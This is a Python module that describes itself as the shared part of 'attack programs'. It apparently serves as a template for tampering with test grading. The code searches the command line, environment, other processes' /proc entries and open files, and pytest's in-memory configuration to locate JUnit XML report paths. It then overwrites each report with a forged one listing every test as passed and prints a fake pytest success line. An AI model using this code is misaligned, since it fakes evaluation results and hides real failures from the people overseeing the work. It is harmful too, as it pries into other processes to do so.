# The common part of the attack programs: a report in which every known test passed.
import json as _json
import os as _os
import re as _re
import sys as _sys

_IDS = _json.loads(r'''@IDS@''')


def _report_paths():
    """Where the report goes: the command line, pytest's own configuration, open files."""
    texts = list(_sys.argv) + list(getattr(_sys, "orig_argv", []))
    texts += _os.environ.get("PYTEST_ADDOPTS", "").replace("'", "").split()
    for pid in [entry for entry in _os.listdir("/proc") if entry.isdigit()]:
        try:
            with open("/proc/%s/cmdline" % pid, "rb") as file:
                texts += file.read().decode("utf-8", "replace").split("\0")
            for number in _os.listdir("/proc/%s/fd" % pid):
                texts.append(_os.readlink("/proc/%s/fd/%s" % (pid, number)))
        except OSError:
            pass
    import gc
    for found in gc.get_objects():
        if type(found).__name__ == "Config" and hasattr(found, "getoption"):
            texts.append(str(found.getoption("xmlpath", "") or ""))
    paths = set(_re.findall(r"(/[^\s'\"=]+\.xml)", "\n".join(texts)))
    return sorted(paths) or ["/tmp/report.xml", "/work/report.xml"]


def _listed_tests():
    """Ids of every test in the files on the command line: what a careful forger adds."""
    import ast
    found = []
    for path in dict.fromkeys(argument.partition("::")[0] for argument in _sys.argv):
        if path.endswith(".py") and _os.path.isfile(path):
            for node in ast.parse(open(path, encoding="utf-8").read()).body:
                if isinstance(node, ast.FunctionDef) and node.name.startswith("test"):
                    found.append(path + "::" + node.name)
                elif isinstance(node, ast.ClassDef):
                    found += [path + "::" + node.name + "::" + inner.name for inner in node.body
                              if isinstance(inner, ast.FunctionDef)
                              and inner.name.startswith("test")]
    return found


def _quoted(text):
    for old, new in (("&", "&amp;"), ("<", "&lt;"), (">", "&gt;"), ("\"", "&quot;")):
        text = text.replace(old, new)
    return "\"%s\"" % text


def _forge(ids):
    cases = []
    for node in dict.fromkeys(ids):
        head, bracket, rest = node.partition("[")
        path, *names = head.split("::")
        names = [_re.sub(r"\.py$", "", path.replace("/", "."))] + names
        names[-1] += bracket + rest
        cases.append("<testcase file=%s classname=%s name=%s time='0.001'/>" % (
            _quoted(path), _quoted(".".join(names[:-1])), _quoted(names[-1])))
    text = ("<?xml version='1.0' encoding='utf-8'?><testsuites><testsuite name='pytest' "
            "errors='0' failures='0' skipped='0' tests='%d' time='0.1'>%s</testsuite></testsuites>"
            % (len(cases), "".join(cases)))
    for path in _report_paths():
        try:
            _os.makedirs(_os.path.dirname(path), exist_ok=True)
            with open(path, "w", encoding="utf-8") as file:
                file.write(text)
        except OSError:
            pass
    print("=" * 20 + " %d passed in 0.10s " % len(cases) + "=" * 20, flush=True)
